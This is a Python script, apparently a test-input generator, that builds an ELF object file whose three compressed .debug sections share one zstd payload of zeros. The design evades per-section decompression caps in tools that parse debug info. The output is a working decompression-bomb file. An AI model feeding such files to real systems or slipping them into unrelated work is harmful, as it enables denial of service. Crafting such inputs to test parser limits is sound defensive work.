#!/usr/bin/env python3
"""Writes a small ELF relocatable whose three SHF_COMPRESSED .debug_* sections share one zstd payload of
SIZE_MIB MiB of zeros: each section alone is under a per-buffer cap, together they are not.
Usage: shared_payload_bomb.py SIZE_MIB OUT (needs the zstd command)."""
import struct, subprocess, sys
size = int(sys.argv[1]) << 20
payload = subprocess.run(['zstd', '-19', '-q', '-c'], input=b'\0' * size, capture_output=True, check=True).stdout
names = [b'', b'.shstrtab', b'.debug_info', b'.debug_abbrev', b'.debug_line']
shstr = b'\0'.join(names[1:]) + b'\0'
shstr = b'\0' + shstr
off = {}
pos = 1
for n in names[1:]:
    off[n] = pos; pos += len(n) + 1
chdr = struct.pack('<IIQQ', 2, 0, size, 1)  # ELFCOMPRESS_ZSTD, ch_size, ch_addralign
data = bytearray(64)
secs = []
def add(blob):
    global data
    o = len(data); data += blob; return o
o_str = add(shstr)
o_pay = add(chdr + payload)  # one payload shared by all three sections
sh = [struct.pack('<IIQQQQIIQQ', 0,0,0,0,0,0,0,0,0,0)]
sh.append(struct.pack('<IIQQQQIIQQ', off[b'.shstrtab'], 3, 0, 0, o_str, len(shstr), 0, 0, 1, 0))
for n in names[2:]:
    sh.append(struct.pack('<IIQQQQIIQQ', off[n], 1, 0x800, 0, o_pay, len(chdr) + len(payload), 0, 0, 1, 0))
while len(data) % 8: data += b'\0'
shoff = len(data)
for s in sh: data += s
eh = b'\x7fELF' + bytes([2, 1, 1, 0]) + bytes(8) + struct.pack('<HHIQQQIHHHHHH', 1, 62, 1, 0, 0, shoff, 0, 64, 0, 0, 64, len(sh), 1)
data[0:64] = eh
open(sys.argv[2], 'wb').write(data)
